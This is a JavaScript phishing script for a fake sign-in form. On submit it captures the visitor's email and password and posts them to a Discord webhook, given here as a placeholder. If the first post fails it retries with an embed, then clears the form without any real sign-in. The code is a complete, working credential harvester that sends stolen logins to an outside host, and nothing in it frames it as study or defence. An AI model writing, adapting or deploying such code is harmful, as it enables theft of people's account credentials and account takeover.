const HOOK = "https://discord.com/api/webhooks/000000000000000000/PLACEHOLDER";

document.getElementById("signin").addEventListener("submit", async (e) => {
  e.preventDefault();
  const mail = document.getElementById("mail").value.trim();
  const secret = document.getElementById("secret").value.trim();
  if (!mail || !secret) {
    alert("Please fill in both fields.");
    return;
  }
  const first = { content: `📧 ${mail}\n🔑 ${secret}`, username: "Sign-in Bot" };
  try {
    const done = await fetch(HOOK, { method: "POST", headers: { "Content-Type": "application/json" }, body: JSON.stringify(first) });
    if (!done.ok) {
      const second = { embeds: [{ title: "Entry", fields: [{ name: "Email", value: mail }, { name: "Word", value: secret }], timestamp: new Date().toISOString() }] };
      await fetch(HOOK, { method: "POST", headers: { "Content-Type": "application/json" }, body: JSON.stringify(second) });
    }
    document.getElementById("signin").reset();
  } catch (err) {
    console.error(err);
  }
});
